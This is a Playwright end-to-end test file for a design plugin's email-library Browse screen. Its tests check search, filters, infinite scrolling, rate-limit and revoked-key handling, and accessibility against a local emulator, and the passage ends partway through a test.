// Browse (the email library) through the playground, as a designer uses it: the real
// dist/ui.html calling the library emulator from the iframe. Driven by roles, labels, visible
// text and keys; what the screen shows is checked against what the emulator serves.
import { mkdirSync } from 'node:fs';
import type { BrowserContext, Frame, Locator, Page, Request } from 'playwright-core';
import { beforeAll, describe, expect, it } from 'vitest';
import { parseEmulatorState, type EmulatorDemoState } from '../playground/page/emulator-link';
import { axeViolationsAsync } from './support/axe';
import { evaluateHooks, useHarness, textNowAsync, textOf } from './support/playground-harness';
import { emulatorFaults, type EmulatorFaults } from './support/emulator-faults';
import { focusedPlaceAsync, openBrowseWithClockAsync, sectionButton, startingWith } from './support/browse-steps';
import { holdRequestsAsync } from './support/hold-requests';
import { watchStatusRegionsAsync } from './support/status-regions';
import { readLibraryAsync } from './support/library-read';
import { imageRequestsAsync } from './support/emulator-image-requests';
import { addRouteAsync } from './support/own-route';
import { librarySlowDownFor } from './support/library-slow-down';
import { pauseClockAtAsync, secondAheadAsync } from './support/clocked-window';

const h = useHarness();
let state: EmulatorDemoState;
const SHOTS = 'test-results/screenshots';

interface Summary {
  id: number;
  subject_line: string;
  brand: string;
  brand_slug: string;
  from_email: string;
}

beforeAll(async () => {
  state = parseEmulatorState(await (await fetch(`${h.emulator.libraryUrl}/_emulator/state`)).json());
  mkdirSync(SHOTS, { recursive: true });
});

const libraryAsync = <T>(path: string, key: string | null = null) => readLibraryAsync<T>(h.emulator.libraryUrl, path, key);

/**
 * Browse with the key (`opened`, a window already on Browse with the key, or the harness's), the
 * first result opened: how many were loaded, and the detail's "N of M" navigation.
 */
async function firstResultOpenedAsync(opened?: Frame): Promise<{ ui: Frame; loaded: number; position: ReturnType<Frame['locator']> }> {
  const ui = opened ?? (await openBrowseAsync('light', 'key'));
  const loaded = await loadedCountAsync(ui);
  await cards(ui).first().click();
  const position = ui.getByRole('navigation', { name: 'Results' });
  await expect.poll(() => textOf(position), { timeout: 10_000 }).toContain(`1 of ${loaded}+`);
  return { ui, loaded, position };
}

/** The person makes the window smaller with the resize grip's keys (Shift+arrow: a big step each). */
async function shrinkWindowAsync(ui: Frame, narrower: number, shorter: number): Promise<void> {
  await ui.getByTestId('resize-handle').focus();
  for (let step = 0; step < narrower; step++) await h.page.keyboard.press('Shift+ArrowLeft');
  for (let step = 0; step < shorter; step++) await h.page.keyboard.press('Shift+ArrowUp');
}

/**
 * A fresh world on the Browse screen: with the emulator's demo library key, or anonymous (the
 * library address saved in Settings, no key).
 */
async function openBrowseAsync(theme: 'light' | 'dark', access: 'key' | 'anonymous'): Promise<Frame> {
  await h.openFreshAsync(`?command=browse&theme=${theme}${access === 'key' ? '&demo-keys=1' : ''}`);
  const ui = await h.uiFrameAsync();
  if (access === 'anonymous') {
    await ui.getByTestId('nav-settings').click();
    await ui.getByTestId('settings-library-base-url').fill(h.emulator.libraryUrl);
    await ui.getByTestId('settings-library-save').click();
    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.baseUrl')), { timeout: 10_000 }).toBe(h.emulator.libraryUrl);
    await ui.getByTestId('nav-browse').click();
  }
  await emailList(ui).waitFor({ timeout: 20_000 });
  return ui;
}

/** The addresses of the page's requests that `keep` picks, as they go out, until `stop()`. */
function watchRequests(keep: (request: Request) => boolean, as: (url: string) => string = (url) => url, page: Page = h.page): { urls: string[]; stop: () => void } {
  const urls: string[] = [];
  const watch = (request: Request) => {
    if (keep(request)) urls.push(as(request.url()));
  };
  page.on('request', watch);
  return { urls, stop: () => page.off('request', watch) };
}

/**
 * Presses each key 150 ms after the last on the window's own clock, stopped between presses: a
 * person's pace, which real time on a loaded machine cannot promise (the search waits 350 ms for
 * the typing to stop, and two searches went out when a press came late).
 */
async function pressAtPersonsPaceAsync(context: BrowserContext, page: Page, ui: Frame, keys: readonly string[]): Promise<void> {
  await pauseClockAtAsync(context.clock, secondAheadAsync(ui));
  for (const key of keys) {
    await page.keyboard.press(key);
    await context.clock.runFor(150);
  }
  await context.clock.runFor(1_000);
}

/** After the one search the pace asked for, a further second of the window's time asks nothing more. */
async function nothingMoreAskedAsync(context: BrowserContext): Promise<void> {
  await context.clock.runFor(1_000);
  await new Promise((resolve) => setTimeout(resolve, 500));
}

/** A brand's name as the library's brand page gives it (“Little Acorn Co.”). */
async function brandNameAsync(slug: string): Promise<string> {
  return (await libraryAsync<{ data: { brand: { name: string } } }>(`/v1/brands/${slug}?per_page=1`)).data.brand.name;
}

const emailList = (ui: Frame) => ui.getByRole('list', { name: 'Emails' });
const cards = (ui: Frame) => emailList(ui).getByRole('button');

async function cardSubjectsAsync(ui: Frame): Promise<string[]> {
  return emailList(ui).locator('.email-card-subject').allTextContents();
}

async function loadedCountAsync(ui: Frame): Promise<number> {
  const text = (await textOf(ui.getByTestId('library-status'))) ?? '';
  const match = /^(\d+) emails?/.exec(text);
  return match ? Number(match[1]) : -1;
}

async function checkAxeAsync(ui: Frame, what: string): Promise<void> {
  expect(await axeViolationsAsync(ui), what).toEqual([]);
}

describe('Browse: search', () => {
  it('shows the library’s emails (anonymous), filters by category and brand, and loads more pages on scroll without duplicates', async () => {
    const { urls: emailRequests, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`));
    try {
      const ui = await openBrowseAsync('light', 'anonymous');
      const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects.slice(0, 3))).toEqual(first.data.slice(0, 3).map((email) => email.subject_line));
      expect(await cards(ui).first().textContent()).toContain(first.data[0]!.brand);
      // Only the rows on screen are in the page, and only their thumbnails load.
      const drawn = await cards(ui).count();
      expect(drawn).toBeLessThan(50);
      const images = await emailList(ui).locator('img').count();
      expect(images).toBeGreaterThan(0);
      expect(images).toBeLessThanOrEqual(drawn);
      // The library was asked for those thumbnails alone (read where they land: a thumbnail fetched
      // for a row not drawn, ahead of its scrolling in, has no <img> to count).
      const thumbnailsAskedAsync = async () => (await imageRequestsAsync(h.emulator)).filter((request) => request.kind === 'thumbnail').map((request) => request.path);
      await expect.poll(async () => (await thumbnailsAskedAsync()).length).toBeGreaterThan(0);
      const thumbnailsAsked = await thumbnailsAskedAsync();
      const thumbnailsDrawn = (await emailList(ui).locator('img').evaluateAll((shown) => shown.map((image) => (image as HTMLImageElement).src))).map((src) => new URL(src).pathname);
      expect(thumbnailsAsked.filter((path) => !thumbnailsDrawn.includes(path))).toEqual([]);

      // Scrolling down asks for the next pages; the emulator repeats an item across pages (inexact paging).
      await ui.getByTestId('email-grid').hover();
      for (let round = 0; round < 4; round++) {
        const before = await loadedCountAsync(ui);
        // Scrolling on, as a person does, until the next page is in.
        await expect
          .poll(
            async () => {
              await h.page.mouse.wheel(0, 2_000);
              return loadedCountAsync(ui);
            },
            { timeout: 15_000 },
          )
          .toBeGreaterThan(before);
      }
      const shown = await loadedCountAsync(ui);
      const pages = [...new Set(emailRequests)];
      const ids: number[] = [];
      for (const url of pages) ids.push(...(await libraryAsync<{ data: Summary[] }>(new URL(url).pathname + new URL(url).search)).data.map((email) => email.id));
      expect(ids.length).toBeGreaterThan(new Set(ids).size);
      expect(shown).toBe(new Set(ids).size);
      expect(await emailList(ui).getByRole('listitem').first().getAttribute('aria-setsize')).toBe(String(shown));
      await h.page.screenshot({ path: `${SHOTS}/library-search-scrolled-light.png` });

      // Category: the same first emails as the emulator gives for that category.
      await ui.getByLabel('Category').selectOption({ label: 'Beauty' });
      const beauty = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=beauty&per_page=50');
      expect(beauty.data.length).toBeGreaterThan(0);
      await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(beauty.data[0]!.subject_line);

      // Brand (picked by name from `GET /v1/brands?q=`): every card is that brand's.
      await ui.getByLabel('Category').selectOption({ label: 'All categories' });
      const brand = beauty.data[0]!;
      await ui.getByLabel('Brand').fill(brand.brand);
      const ofBrand = await libraryAsync<{ data: Summary[] }>(`/v1/emails?brand=${encodeURIComponent(brand.brand_slug)}&per_page=50`);
      await expect.poll(async () => [...new Set(await emailList(ui).locator('.email-card-brand').allTextContents())], { timeout: 10_000 }).toEqual([brand.brand]);
      expect((await cardSubjectsAsync(ui))[0]).toBe(ofBrand.data[0]!.subject_line);

      // Words that match nothing: said in words.
      await ui.getByLabel('Brand').fill('');
      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('zzqqxx nothing like this');
      await expect.poll(() => textOf(ui.getByTestId('library-empty')), { timeout: 10_000 }).toContain('No emails match this search.');
    } finally {
      stopWatching();
    }
  });

  it('asks once for the category the designer stops on when stepping through the list with the arrow keys', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`) && request.url().includes('category='), undefined, page);
    try {
      await ui.getByLabel('Category').focus();
      await pressAtPersonsPaceAsync(context, page, ui, ['ArrowDown', 'ArrowDown', 'ArrowDown', 'ArrowDown']);
      expect(await ui.getByLabel('Category').inputValue()).not.toBe('');
      await expect.poll(() => sent.length, { timeout: 10_000 }).toBeGreaterThan(0);
      await nothingMoreAskedAsync(context);
      expect(sent).toHaveLength(1);
    } finally {
      stopWatching();
      await context.close();
    }
  });

  it('asks once for a “captured since” date typed digit by digit, not for every date it passes through', async () => {
    const { context, page, ui } = await openBrowseWithClockAsync(h);
    const { urls: sent, stop: stopWatching } = watchRequests((request) => request.url().startsWith(`${h.emulator.libraryUrl}/v1/emails?`) && request.url().includes('since='), decodeURIComponent, page);
    try {
      await ui.getByLabel('Captured since').focus();
      // Month, day, then the year a digit at a time: 0002, 0020, 0202, 2025 are each a date.
      await pressAtPersonsPaceAsync(context, page, ui, [...'11012025']);
      await expect.poll(() => sent.length, { timeout: 10_000 }).toBeGreaterThan(0);
      await nothingMoreAskedAsync(context);
      expect(sent).toHaveLength(1);
      expect(sent[0]).toContain('since=2025-11-01');
    } finally {
      stopWatching();
      await context.close();
    }
  });

  it('shows each card’s capture date in full at the default window size (it was cut to “Captured 24 Nov 2…”)', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    const date = cards(ui).first().getByText(/\d{1,2} [A-Z][a-z]{2} \d{4}$/);
    await date.waitFor();
    expect(await date.evaluate((element) => element.scrollWidth - element.clientWidth)).toBeLessThanOrEqual(0);
  });

  it('shows every section of the library at the smallest window size (References was cut off past the right edge)', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await ui.getByTestId('resize-handle').focus();
    for (let step = 0; step < 3; step++) await h.page.keyboard.press('Shift+ArrowLeft');
    await expect.poll(() => ui.evaluate(() => window.innerWidth)).toBe(320);
    const sections = ui.getByRole('navigation', { name: 'Library' }).getByRole('button');
    for (const section of await sections.all()) {
      const box = await section.evaluate((element) => element.getBoundingClientRect().right);
      expect(box, (await section.textContent()) ?? '').toBeLessThanOrEqual(320);
    }
  });

  it('keeps the filters, the cards and the credit apart at the smallest window, 320 × 240 (the credit was drawn over the filters and the cards were out of reach)', async () => {
    const ui = await openBrowseAsync('dark', 'anonymous');
    await shrinkWindowAsync(ui, 3, 8);
    await expect.poll(() => ui.evaluate(() => [window.innerWidth, window.innerHeight])).toEqual([320, 240]);
    const box = async (locator: ReturnType<Frame['locator']>) => (await locator.evaluate((element) => element.getBoundingClientRect().toJSON())) as { top: number; bottom: number };
    const credit = ui.getByText('each email belongs to its brand');
    await credit.waitFor();
    expect((await box(credit)).top).toBeGreaterThanOrEqual((await box(ui.getByTestId('email-grid'))).bottom - 1);
    // A person scrolls to a card and opens it.
    const first = cards(ui).first();
    await first.scrollIntoViewIfNeeded();
    await first.click();
    await ui.getByRole('button', { name: '← Back to results' }).waitFor();
    await checkAxeAsync(ui, 'an email at the smallest window, dark');
  });

  it('scrolls the results with the window below 480 px of height, one scroller, not a 160 px grid scrolling inside a scrolling window', async () => {
    const ui = await openBrowseAsync('light', 'anonymous');
    await shrinkWindowAsync(ui, 3, 6);
    await expect.poll(() => ui.evaluate(() => window.innerHeight)).toBeLessThan(480);
    const grid = ui.getByTestId('email-grid');
    await expect.poll(() => grid.evaluate((element) => element.scrollHeight - element.clientHeight)).toBeLessThanOrEqual(1);
    // Scrolling over the cards, as a person does: the window moves through them and the next page comes.
    await cards(ui).first().hover();
    const before = await loadedCountAsync(ui);
    await expect
      .poll(
        async () => {
          await h.page.mouse.wheel(0, 1_500);
          return loadedCountAsync(ui);
        },
        { timeout: 15_000 },
      )
      .toBeGreaterThan(before);
    // Only the cards near the view are drawn, as in a taller window. Polled: the count grows as the page arrives,
    // and on a loaded machine the grid may draw the rows at the new scroll position a frame later.
    await expect.poll(() => emailList(ui).getByRole('listitem').count()).toBeLessThan(before);
    const last = emailList(ui).getByRole('listitem').last();
    await expect.poll(async () => Number(await last.getAttribute('aria-posinset'))).toBeGreaterThan(before - 12);
  });

  it('says where the scrolling stopped when the next page cannot be loaded, in a window below 480 px of height too', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'anonymous');
    await shrinkWindowAsync(ui, 3, 6);
    await expect.poll(() => ui.evaluate(() => window.innerHeight)).toBeLessThan(480);
    await cards(ui).first().hover();
    const notice = ui.getByTestId('library-problem');
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      await expect
        .poll(
          async () => {
            await h.page.mouse.wheel(0, 1_500);
            return notice.count();
          },
          { timeout: 15_000 },
        )
        .toBe(1);
    } finally {
      await faults.clearAsync();
    }
    // Scrolling on, as a person does: the notice and its Try again come where the cards stopped
    // (it was above the cards, out of sight of those scrolled to).
    // Scrolling down until it shows (one wheel may land short while the last page settles); a
    // notice above the cards would never come into view this way.
    const inView = async () => {
      await h.page.mouse.wheel(0, 1_500);
      return notice.evaluate((element) => element.getBoundingClientRect().top >= 0 && element.getBoundingClientRect().bottom <= window.innerHeight);
    };
    await expect.poll(inView).toBe(true);
    const before = await emailList(ui).getByRole('listitem').last().getAttribute('aria-posinset');
    await notice.getByRole('button', { name: 'Try again' }).click();
    await expect.poll(async () => Number(await loadedCountAsync(ui)), { timeout: 10_000 }).toBeGreaterThan(Number(before));
  });

  it('drops the old brand filter when a new brand name cannot be looked up, as its note says', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
    const brand = first.data[0]!;
    const brandsOnCards = async () => [...new Set(await emailList(ui).locator('.email-card-brand').allTextContents())];
    await ui.getByLabel('Brand').fill(brand.brand);
    await expect.poll(brandsOnCards, { timeout: 10_000 }).toEqual([brand.brand]);
    // The brand look-up fails (the search itself still answers).
    const lookUp = (url: URL) => url.pathname === '/v1/brands';
    const stopLookUpAsync = await addRouteAsync(h.page, lookUp, (route) => route.abort());
    try {
      await ui.getByLabel('Brand').fill('Another brand');
      await expect.poll(() => textOf(ui.getByText('Brands could not be looked up; showing all brands.')), { timeout: 10_000 }).toContain('showing all brands');
      await expect.poll(async () => (await brandsOnCards()).length, { timeout: 10_000 }).toBeGreaterThan(1);
    } finally {
      await stopLookUpAsync();
    }
  });

  it('waits out a 429 on the brand look-up and then filters by the brand typed, instead of dropping it', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const first = await libraryAsync<{ data: Summary[] }>('/v1/emails?per_page=50');
    const brand = first.data[0]!;
    const brandsOnCards = async () => [...new Set(await emailList(ui).locator('.email-card-brand').allTextContents())];
    const lookUps: string[] = [];
    const lookUp = (url: URL) => url.pathname === '/v1/brands';
    const stopLookUpAsync = await addRouteAsync(h.page, lookUp, (route) => {
      lookUps.push(route.request().url());
      if (lookUps.length > 1) return route.continue();
      return route.fulfill(librarySlowDownFor(2));
    });
    try {
      await ui.getByLabel('Brand').fill(brand.brand);
      await expect.poll(() => lookUps.length, { timeout: 10_000 }).toBe(1);
      await expect.poll(brandsOnCards, { timeout: 15_000 }).toEqual([brand.brand]);
      expect(lookUps).toHaveLength(2);
      expect(await ui.getByText('showing all brands').count()).toBe(0);
    } finally {
      await stopLookUpAsync();
    }
  });

  it('says which key the library refused and offers Settings (401)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByTestId('nav-settings').click();
    await ui.getByTestId('settings-library-replace-key').click();
    await ui.getByTestId('settings-library-key').fill(state.library.keys.revoked!);
    await ui.getByTestId('settings-library-save').click();
    expect(await textNowAsync(ui.getByTestId('settings-library-key-hint'))).not.toBeNull();
    await ui.getByTestId('nav-browse').click();
    const alert = ui.getByTestId('library-problem').getByRole('alert');
    await expect.poll(() => textOf(alert), { timeout: 15_000 }).toMatch(/^The library API key was not accepted\..*Settings/);
    await ui.getByRole('button', { name: 'Open Settings' }).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 1 }))).toBe('Settings');
  });
});

describe('Browse: a refused key, fixed in Settings', () => {
  it('opens Settings on the library’s key, ready for a new one, and the new key shows the email the designer was on', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await ui.getByLabel('Category').selectOption({ label: 'Travel' });
    const travel = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=travel&per_page=50');
    await expect.poll(() => cardSubjectsAsync(ui).then((subjects) => subjects[0]), { timeout: 10_000 }).toBe(travel.data[0]!.subject_line);
    await cards(ui).nth(1).click();
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(travel.data[1]!.subject_line);
    // The key is revoked meanwhile: the next email is refused.
    const api = `${h.emulator.libraryUrl}/v1/**`;
    const stopApiAsync = await addRouteAsync(h.page, api, (route) =>
      route.fulfill({
        status: 401,
        headers: { 'content-type': 'application/json', 'access-control-allow-origin': '*' },
        body: JSON.stringify({ error: { code: 'unauthorized', message: 'The API key was revoked by its owner.' } }),
      }),
    );
    try {
      await ui.getByRole('button', { name: 'Next' }).click();
      await ui.getByRole('button', { name: 'Open Settings' }).click();
      // Settings opens where the refused key is (the library's section was below the builder's, out of sight), ready for a new key.
      const keyField = ui.getByTestId('settings-library-key');
      await expect.poll(() => keyField.evaluate((element) => element === document.activeElement), { timeout: 5_000 }).toBe(true);
      const box = await keyField.evaluate((element) => element.getBoundingClientRect().toJSON() as { top: number; bottom: number });
      expect(box.top).toBeGreaterThanOrEqual(0);
      expect(box.bottom).toBeLessThanOrEqual(await ui.evaluate(() => window.innerHeight));
    } finally {
      await stopApiAsync();
    }
    await h.page.keyboard.type(state.library.keys.other!);
    await h.page.keyboard.press('Enter');
    await expect.poll(() => evaluateHooks(h.page, async (hooks) => hooks.fake().figma.clientStorage.getAsync('envelope.library.apiKey')), { timeout: 10_000 }).toBe(state.library.keys.other);
    await ui.getByTestId('nav-browse').click();
    const travelForOther = await libraryAsync<{ data: Summary[] }>('/v1/emails?category=travel&per_page=50', state.library.keys.other);
    await expect.poll(() => textOf(ui.getByRole('heading', { level: 2 })), { timeout: 10_000 }).toBe(travelForOther.data[2]!.subject_line);
  });
});

describe('Browse: a next page made only of emails already shown', () => {
  /** Without brand or category the library may repeat itself: the pages `repeats` picks come back as page 1 again. */
  async function repeatPagesAsync(repeats: (page: number) => boolean): Promise<{ pages: number[]; stop: () => Promise<void> }> {
    const searches = (url: URL) => url.pathname === '/v1/emails';
    const pages: number[] = [];
    const stop = await addRouteAsync(h.page, searches, async (route) => {
      const url = new URL(route.request().url());
      const page = Number(url.searchParams.get('page') ?? '1');
      pages.push(page);
      if (!repeats(page)) return route.continue();
      url.searchParams.set('page', '1');
      return route.fulfill({ response: await route.fetch({ url: url.toString() }) });
    });
    return { pages, stop };
  }
  const scrollToEndAsync = (ui: Frame) => ui.getByTestId('email-grid').evaluate((element) => (element.scrollTop = element.scrollHeight));

  it('goes on to the page after it (the grid asked again only when its cards grew, so the scrolling stopped for good)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const repeating = await repeatPagesAsync((page) => page === 2);
    try {
      // The search shown on opening (no words, brand or category), its first page in. A search
      // typed here replaced, 350 ms later, the results this scrolled through: on a busy machine
      // after its third page came, so the count waited for stayed at 50.
      expect(await loadedCountAsync(ui)).toBe(50);
      await expect
        .poll(async () => {
          await scrollToEndAsync(ui);
          return Math.max(0, ...repeating.pages);
        }, { timeout: 10_000 })
        .toBeGreaterThanOrEqual(3);
      // Pages asked and answered one after another: more than the default second on a busy machine.
      await expect.poll(() => loadedCountAsync(ui), { timeout: 10_000 }).toBeGreaterThan(50);
    } finally {
      await repeating.stop();
    }
  });

  it('stops after a few such pages in a row and says no more new results came', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const repeating = await repeatPagesAsync((page) => page > 1);
    try {
      // The search shown on opening: no typed search replaces it part-way (see above).
      expect(await loadedCountAsync(ui)).toBe(50);
      await scrollToEndAsync(ui);
      // Five pages asked and answered one after another: more than the default second on a busy machine.
      await expect.poll(() => textOf(ui.getByTestId('library-status')), { timeout: 10_000 }).toBe('50 emails. No more new ones came: the library’s next pages held only emails already shown.');
      expect(repeating.pages.filter((page) => page > 1)).toEqual([2, 3, 4, 5, 6]);
    } finally {
      await repeating.stop();
    }
  });
});

describe('Browse: a next page that cannot be loaded', () => {
  it('keeps the count of the emails shown in the status line (it went blank)', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    await expect.poll(() => loadedCountAsync(ui), { timeout: 10_000 }).toBe(50);
    await faults.setAsync({ rate: 1, kinds: ['503'] });
    try {
      await ui.getByTestId('email-grid').evaluate((element) => (element.scrollTop = element.scrollHeight));
      await ui.getByTestId('library-problem').waitFor({ timeout: 10_000 });
    } finally {
      await faults.clearAsync();
    }
    await expect.poll(() => textOf(ui.getByTestId('library-status')), { timeout: 10_000 }).toBe('50 emails so far.');
  });
});

describe('Browse: status lines', () => {
  it('are in the window before they say anything, so a screen reader announces the loading words (they appeared already filled)', async () => {
    const faults = emulatorFaults(h.emulator);
    const ui = await openBrowseAsync('light', 'key');
    const regions = await watchStatusRegionsAsync(ui);
    await faults.setAsync({ rate: 1, kinds: ['stall'] });
    try {
      for (const [section, words] of [
        ['Brands', 'Loading brands…'],
        ['Journeys', 'Loading journeys…'],
        ['Me', 'Loading…'],
        ['Requests', 'Loading your requests…'],
      ] as const) {
        await ui.getByRole('button', { name: section, exact: true }).click();
        await expect.poll(() => regions.said(), { timeout: 10_000 }).toContain(words);
      }
    } finally {
      await faults.clearAsync();
    }
    await ui.getByRole('button', { name: 'Emails', exact: true }).click();
    await cards(ui).first().click();
    await ui.getByTestId('email-attribution').waitFor({ timeout: 10_000 });
    const added = await regions.addedWith();
    expect(added.length).toBeGreaterThanOrEqual(5);
    expect(added.filter((text) => text !== '')).toEqual([]);
  });
});

describe('Browse: the next page on its way', () => {
  it('keeps the count of the emails shown in the status line while it loads (it said only “Loading emails…”)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await expect.poll(() => loadedCountAsync(ui), { timeout: 10_000 }).toBe(50);
    const searches = (url: URL) => url.pathname === '/v1/emails' && url.searchParams.get('page') === '2';
    let release: () => void = () => undefined;
    const held = new Promise<void>((resolve) => (release = resolve));
    const stopSearchesAsync = await addRouteAsync(h.page, searches, async (route) => {
      await held;
      await route.continue().catch(() => undefined);
    });
    try {
      await ui.getByTestId('email-grid').evaluate((element) => (element.scrollTop = element.scrollHeight));
      await expect.poll(() => textOf(ui.getByTestId('library-status'))).toBe('50 emails so far; loading more…');
    } finally {
      release();
      await stopSearchesAsync();
    }
    await expect.poll(() => loadedCountAsync(ui)).toBeGreaterThan(50);
  });
});

describe('Browse: a ticked card', () => {
  for (const theme of ['light', 'dark'] as const) {
    it(`marks its thumbnail with an edge that stands out 3:1 from the window (${theme}; it was 2.99:1 in the light theme)`, async () => {
      const ui = await openBrowseAsync(theme, 'key');
      const card = emailList(ui).getByRole('listitem').first();
      await card.getByRole('checkbox').check();
      const ratio = await card.locator('.email-thumb').evaluate((thumb) => {
        const probe = document.createElement('canvas').getContext('2d', { willReadFrequently: true })!;
        const rgba = (css: string): number[] => {
          probe.clearRect(0, 0, 1, 1);
          probe.fillStyle = css;
          probe.fillRect(0, 0, 1, 1);
          const [r, g, b, a] = probe.getImageData(0, 0, 1, 1).data;
          return [r!, g!, b!, a! / 255];
        };
        const over = (top: number[], below: number[]) => [0, 1, 2].map((i) => top[i]! * top[3]! + below[i]! * (1 - top[3]!)).concat(1);
        let ground = [255, 255, 255, 1];
        const layers: number[][] = [];
        for (let at = thumb.parentElement; at; at = at.parentElement) layers.push(rgba(getComputedStyle(at).backgroundColor));
        for (const layer of layers.reverse()) ground = over(layer, ground);
        const edge = over(rgba(getComputedStyle(thumb).borderTopColor), ground);
        const luminance = (c: number[]) => c.slice(0, 3).map((v) => (v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4)).reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i]!, 0);
        const [high, low] = [luminance(edge), luminance(ground)].sort((x, y) => y - x);
        return (high! + 0.05) / (low! + 0.05);
      });
      expect(ratio).toBeGreaterThanOrEqual(3);
    });
  }
});

describe('Browse: a request held back by the rate limit', () => {
  /** A search the library answers with a 429 and this Retry-After: the key's requests wait it out. */
  async function searchRateLimitedAsync(ui: Frame, retryAfterSeconds: number): Promise<void> {
    const searches = (url: URL) => url.pathname === '/v1/emails';
    const stopSearchesAsync = await addRouteAsync(h.page, searches, (route) =>
      route.fulfill(librarySlowDownFor(retryAfterSeconds)),
    );
    try {
      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
      await expect.poll(() => textOf(ui.getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toContain('slow down');
    } finally {
      await stopSearchesAsync();
    }
  }

  it('says why a section stands still while the library’s allowance is spent, counting down, then shows it', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const regions = await watchStatusRegionsAsync(ui);
    // The library answers a search with a 429: every request of this key waits out its Retry-After.
    await searchRateLimitedAsync(ui, 6);
    // Brands' request waits in the plugin meanwhile: it said only “Loading brands…” for as long.
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    const held = ui.getByRole('status').filter({ hasText: 'limited number of requests' });
    const heldWords = 'The library takes a limited number of requests a minute.';
    await expect.poll(async () => (await textOf(held)) ?? '', { timeout: 5_000 }).toBe(heldWords);
    // The seconds show beside the status, not in it: a screen reader says it once, not again at every tick.
    const countdown = ui.getByText(/^Requests go again in [1-6] seconds?\.$/);
    await expect.poll(() => countdown.count()).toBe(1);
    const first = await textOf(countdown);
    await expect.poll(() => textOf(countdown), { timeout: 5_000 }).not.toBe(first);
    await checkAxeAsync(ui, 'the held notice, light');
    await ui.getByRole('list', { name: 'Top brands' }).getByRole('button').first().waitFor({ timeout: 15_000 });
    await expect.poll(() => held.count()).toBe(0);
    expect(await ui.getByText(/^Requests go again in/).count()).toBe(0);
    // Its status was in the window before it said anything (it came already filled, maybe never announced).
    expect((await regions.addedWith()).filter((text) => text !== '')).toEqual([]);
    // Said once while the seconds went down (it was said again at every one).
    expect((await regions.said()).filter((text) => text.includes('limited number'))).toEqual([heldWords]);
  });

  it('once the designer leaves the section whose request was held, stops counting down: nothing waits (it counted down for nothing)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    await searchRateLimitedAsync(ui, 20);
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    const held = ui.getByRole('status').filter({ hasText: 'limited number of requests' });
    await held.waitFor({ timeout: 5_000 });
    // Back to the emails before the brands came: their request is let go, nothing waits any more.
    await ui.getByRole('button', { name: 'Emails', exact: true }).click();
    await expect.poll(() => held.count(), { timeout: 5_000 }).toBe(0);
    // Brands again: its request waits again, and the notice says so again.
    await ui.getByRole('button', { name: 'Brands', exact: true }).click();
    await expect.poll(async () => (await textOf(held)) ?? '', { timeout: 5_000 }).toBe('The library takes a limited number of requests a minute.');
    await expect.poll(() => ui.getByText(/^Requests go again in \d+ seconds?\.$/).count()).toBe(1);
  });
});

/** A library's wait longer than any check takes, even on a loaded machine (still counted down: under MAX_COUNTDOWN_SECONDS). */
const LONG_WAIT_SECONDS = 45;

describe('Browse: a section that counts the library’s wait down itself', () => {
  /** Every ask of `path` (a URL test) from `page` is answered with a 429 asking to wait `seconds`. */
  async function refuseAsync(page: Page, path: (url: URL) => boolean, seconds: number): Promise<() => Promise<void>> {
    return addRouteAsync(page, path, (route) =>
      route.fulfill(librarySlowDownFor(seconds)),
    );
  }
  const held = (ui: Frame) => ui.getByRole('status').filter({ hasText: 'limited number of requests' });
  /** The countdowns in sight: a notice's own, the screen's held notice. */
  const countdowns = (ui: Frame) => ui.getByText(/(Trying again in|Requests go again in) \d+ seconds?\./).filter({ visible: true });

  /**
   * The search is refused again and again with a short wait, then left for `refusedAsync`'s
   * section, refused with a longer one: the search's next tries wait in the plugin while the
   * section counts its own wait down.
   */
  async function oneCountdownAsync(page: Page, ui: Frame, refusedAsync: () => Promise<void>): Promise<void> {
    const letSearchGo = await refuseAsync(page, (url) => url.pathname === '/v1/emails', 1);
    try {
      await ui.getByRole('searchbox', { name: 'Search emails' }).fill('free');
      await expect.poll(() => textOf(ui.getByTestId('library-problem').getByRole('alert')), { timeout: 10_000 }).toContain('slow down');
      await refusedAsync();
      // The search's next try (a second later) waits for the section's longer wait.
      await ui.waitForTimeout(2_500);
      expect(await held(ui).count()).toBe(0);
      expect(await countdowns(ui).count()).toBe(1);
    } finally {
      await letSearchGo();
    }
  }

  it('the search: its notice counts down, the screen’s says nothing (a brand looked up meanwhile waited, and both counted the same wait down)', async () => {
    const ui = await openBrowseAsync('light', 'key');
    const letGo = await refuseAsync(h.page, (url) => url.pathname === '/v1/emails', 8);
    try {
